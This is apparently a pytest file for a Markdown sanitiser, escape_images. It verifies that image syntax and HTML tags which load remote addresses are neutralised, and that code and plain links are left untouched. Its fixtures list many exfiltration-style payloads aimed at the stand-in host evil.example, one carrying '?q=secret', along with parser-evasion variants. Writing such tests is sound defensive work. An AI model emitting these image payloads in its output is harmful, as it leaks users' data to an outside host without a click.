"""Nothing that a model reads is loaded when somebody shows it; code stays code."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from kensaku.text.images import escape_images

COMMONMARK = MarkdownIt("commonmark")


def loads(text: str) -> bool:
    """Whether a reader of Markdown would show an image, or pass a tag on to a browser."""
    tokens = COMMONMARK.parse(text)
    inline = [child for token in tokens for child in token.children or ()]
    html = [t.content for t in (*tokens, *inline) if t.type in ("html_block", "html_inline")]
    return any(t.type == "image" for t in inline) or any("evil" in tag for tag in html)


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.example/?q=secret)",
        "![alt](<http://evil.example/>)",
        "word![alt](http://evil.example/)",
        "![a [b] c](http://evil.example/)",
        "![a `]` c](http://evil.example/)",
        "![a\nb](http://evil.example/)",
        "[![a](http://evil.example/)](http://link.example/)",
        "![a](http://evil.example/) and ![b](http://evil.example/)",
        "![a][r]\n\n[r]: http://evil.example/",
        "![r][]\n\n[r]: <//evil.example/>",
        "![r]\n\n[r]:\n   h&#116;tp://evil.example/",
        "![r]\n\n> [r]: http://evil.example/",
        "![r]\n\n- 1. [r]: http://evil.example/",
        "![r r]\n\n[r\nr]: http://evil.example/",
        "![r]\n\n[r]: http\\://evil.example/",
        "<img src=http://evil.example/>",
        "\\\\<img src=http://evil.example/>",
        "<IMG\n SRC='http://evil.example/'>",
        "<b style='background:url(http://evil.example/)'>x</b>",
        "<td background=http://evil.example/>",
        "<iframe src=//evil.example></iframe>",
        "<svg><image href=//evil.example></svg>",
        "<!-- //evil.example -->",
    ],
)
def test_an_image_is_not_loaded(text: str) -> None:
    """An address behind an image is asked for without a click, with what stands in it."""
    assert loads(text)  # or the test would prove nothing
    assert not loads(escape_images(text))
    assert escape_images(escape_images(text)) == escape_images(text)


@pytest.mark.parametrize(
    "text",
    [
        'let v = vec![1, 2][0]; println!["x"]; arr![0]',
        "vec![1]\n\nSee [the book](https://doc.example/).",
        "color: red !important; x != y; !![1]",
        "[a link](https://a.example/) and <https://a.example/>",
        "interface A {\n  [key: string]: number;\n}",
        "if (a <b && c> d) <T>(x) a<b>c</b> <div class='x'><p>",
        "handlers[name](event)",
        "a note [1]: see below",
        "[1] https://a.example/",
    ],
)
def test_code_and_links_stay_as_they_are(text: str) -> None:
    """A link waits for a click; code is read more often than it is rendered."""
    assert escape_images(text) == text
